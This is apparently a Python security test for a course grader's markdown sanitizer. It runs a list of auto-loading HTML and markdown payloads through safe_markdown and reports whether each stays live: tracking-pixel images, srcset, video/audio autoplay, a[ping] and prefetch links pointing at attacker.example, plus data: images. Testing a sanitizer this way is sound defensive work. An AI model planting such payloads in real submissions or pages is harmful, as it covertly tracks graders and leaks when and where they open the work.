"""a08: links to other sites are allowed in written answers (http/https/mailto) but need a click; media that a browser
loads by itself (img, srcset, picture/source, video/audio autoplay, a[ping], link prefetch, data: images) would make
the TA's browser call the student's server when the page opens (a tracking pixel: when and from where the TA grades)
or decode a data: bomb (a07) from markdown. Checks grader.feedback.safe_markdown (what the feedback page and the
graded notebook's written answers go through) on each."""
import sys
sys.path.insert(0, (__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", ".."))))
from grader.feedback import safe_markdown
for src in ['![x](https://attacker.example/p.png?who=ta)', '<img src="https://attacker.example/q.png">',
            '![y](data:image/png;base64,iVBORw0KGgo=)', '<img src="data:image/png;base64,iVBORw0KGgo=">',
            '<video src="https://a.example/v.mp4" autoplay></video>', '<audio src="https://a.example/a.mp3" autoplay>',
            '<source src="https://a.example/x">', '<picture><source srcset="https://a.example/s.png"></picture>',
            '<a href="https://a.example" ping="https://a.example/ping">x</a>', '<img srcset="https://a.example/ss.png 1x">',
            '<link rel=prefetch href="https://a.example/l">', '[x]: https://a.example/ref\n\n![x]']:
    out = safe_markdown(src)
    live = ("<img" in out or "<video" in out or "<audio" in out or "<source" in out or "ping=" in out or "<link" in out)
    print(("LIVE " if live else "inert"), repr(src[:55]), "->", repr(out[:160]))
